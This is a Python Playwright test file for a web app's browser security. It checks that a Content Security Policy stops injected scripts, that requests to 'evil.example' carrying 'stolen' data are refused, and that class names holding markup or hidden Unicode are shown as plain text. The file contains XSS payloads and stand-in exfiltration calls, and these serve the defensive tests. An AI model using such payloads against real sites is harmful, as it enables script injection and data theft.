"""Text of strangers in a real browser: scripts that get in do not run, and names are nothing but names."""

from __future__ import annotations

import re
from collections.abc import AsyncIterator, Iterator

import pytest
from playwright.async_api import Browser, expect

from tests.support.browser import Visit
from tests.support.hosted import hosted_server
from tests.support.owndata import YourData
from tests.support.playground import Playground
from tests.support.server import ServerProcess

REFUSED_BY_POLICY = r"Content Security Policy"
INJECTED = """() => new Promise((resolve) => {
  window.ran = [];
  const violations = [];
  document.addEventListener("securitypolicyviolation", (event) => violations.push(event.effectiveDirective));
  const script = document.createElement("script");
  script.textContent = "window.ran.push('inline')";
  document.body.append(script);
  const guessed = document.createElement("script");
  guessed.nonce = "guessed";
  guessed.textContent = "window.ran.push('nonce')";
  document.body.append(guessed);
  const stolen = document.createElement("script");
  stolen.setAttribute("nonce", document.querySelector("script[nonce]").getAttribute("nonce"));
  stolen.textContent = "window.ran.push('attribute')";
  document.body.append(stolen);
  const data = document.createElement("script");
  data.src = "data:text/javascript,window.ran.push('data')";
  document.body.append(data);
  const box = document.createElement("div");
  box.innerHTML = `<img src="data:," onerror="window.ran.push('handler')">
    <a href="javascript:window.ran.push('link')">.</a>
    <svg onload="window.ran.push('svg')"></svg><iframe srcdoc="<script>parent.ran.push('frame')</script>"></iframe>
    <p style="color: red" onclick="window.ran.push('click')">.</p>`;
  document.body.append(box);
  box.querySelector("a").click();
  box.querySelector("p").click();
  setTimeout("window.ran.push('timeout')", 0);
  setTimeout(() => resolve({ ran: window.ran, violations }), 300);
})"""

MARKUP = "<img src=x onerror=window.ran=1><script>window.ran=1</script>"[:60]
HEBREW = "שלום"
NAMES = {
    MARKUP: MARKUP,
    "left\u202eright": "left\ufffdright",
    "ro\u200bse": "ro\ufffdse",
    HEBREW: f"\u2068{HEBREW}\u2069",
}
"""How each class is called, and how the page must show it."""
ACROSS, UP = "<b onclick=ran()>w</b>", "h\u202eeight\u200b"
UP_SHOWN = "h\ufffdeight\ufffd"
UNSEEN = re.compile("[\u200b-\u200f\u202a-\u202e\u2060-\u2067\ufeff]")


TEXTS = """() => {
  const texts = [document.title];
  for (const element of document.querySelectorAll("#app, #app *")) {
    for (const { value } of element.attributes) texts.push(value);
    for (const child of element.childNodes) if (child.nodeType === Node.TEXT_NODE) texts.push(child.data);
  }
  return texts;
}"""
"""Everything the page says: in words, in titles and to screen readers."""


@pytest.fixture(scope="module")
def hosted() -> Iterator[ServerProcess]:
    with hosted_server() as running:
        yield running


@pytest.fixture
async def visit_hosted(browser: Browser, hosted: ServerProcess) -> AsyncIterator[Visit]:
    visit = Visit(browser, hosted.base_url)
    yield visit
    await visit.end()


async def test_no_script_that_is_put_into_the_page_runs(visit_hosted: Visit) -> None:
    """(Not `eval`: what a debugger evaluates, as these tests do, may call it under any policy.)"""
    visit_hosted.allow(REFUSED_BY_POLICY)
    page = await visit_hosted("/")
    await Playground(page).ready()
    outcome = await page.evaluate(INJECTED)
    assert outcome["ran"] == []
    assert {"script-src-elem", "script-src-attr"} <= set(outcome["violations"])
    assert len(outcome["violations"]) >= 8


async def test_the_policy_lets_nothing_leave(visit_hosted: Visit) -> None:
    visit_hosted.allow(REFUSED_BY_POLICY, r"left the server's own origin", r"Failed to fetch", r"Refused to connect")
    page = await visit_hosted("/")
    outcome = await page.evaluate(
        """async () => {
          const refused = [];
          document.addEventListener("securitypolicyviolation", (event) => refused.push(event.effectiveDirective));
          await fetch("https://evil.example/?stolen").catch(() => {});
          new Image().src = "https://evil.example/?stolen";
          try { new WebSocket("wss://evil.example/"); } catch {}
          await new Promise((resolve) => setTimeout(resolve, 200));
          return refused.sort();
        }"""
    )
    assert outcome == ["connect-src", "connect-src", "img-src"]


async def train_on_names(park: Playground) -> None:
    """Points of four classes with those names, in columns with those names."""
    table = await YourData(park).open()
    rows = [f'{x1},{x2},"{label}"' for label in NAMES for x1, x2 in ((1, 2), (-4, 3), (4.5, -4))]
    await table.paste("\n".join([f'"{ACROSS}","{UP}",kind', *rows]))
    await table.says("12 points read.")
    await expect(table.column("x₁").locator("option:checked")).to_have_text(ACROSS)
    await expect(table.column("x₂").locator("option:checked")).to_have_text(UP_SHOWN)
    run = await table.train_on_it()
    assert run["network"]["layers"][-1]["units"] == len(NAMES)


async def test_names_with_markup_and_unseen_characters_are_nothing_but_names(visit_hosted: Visit) -> None:
    page = await visit_hosted("/")
    park = await Playground(page).ready()
    await page.evaluate("window.ran = 0")
    await train_on_names(park)
    legend = page.locator(".legend-classes li")
    await expect(legend).to_have_count(len(NAMES))
    assert {text.strip() for text in await legend.all_inner_texts()} == set(NAMES.values())
    plot = page.get_by_role("application", name=f"The network over {ACROSS} and {UP_SHOWN}.")
    await plot.hover()
    await expect(page.locator(".readout-line")).to_contain_text(UP_SHOWN)
    for name, shown in NAMES.items():
        await expect(page.get_by_role("button", name=f"Output, {shown}")).to_be_visible()
        assert (name == shown) == (name is MARKUP)
    await park.play()
    await park.until(lambda run: run["epoch"] > 3)

    texts = await page.evaluate(TEXTS)
    assert any(MARKUP in text for text in texts)
    assert [text for text in texts if UNSEEN.search(text)] == []
    assert await page.locator("img[src=x], b[onclick], main script").count() == 0
    assert await page.evaluate("window.ran") == 0
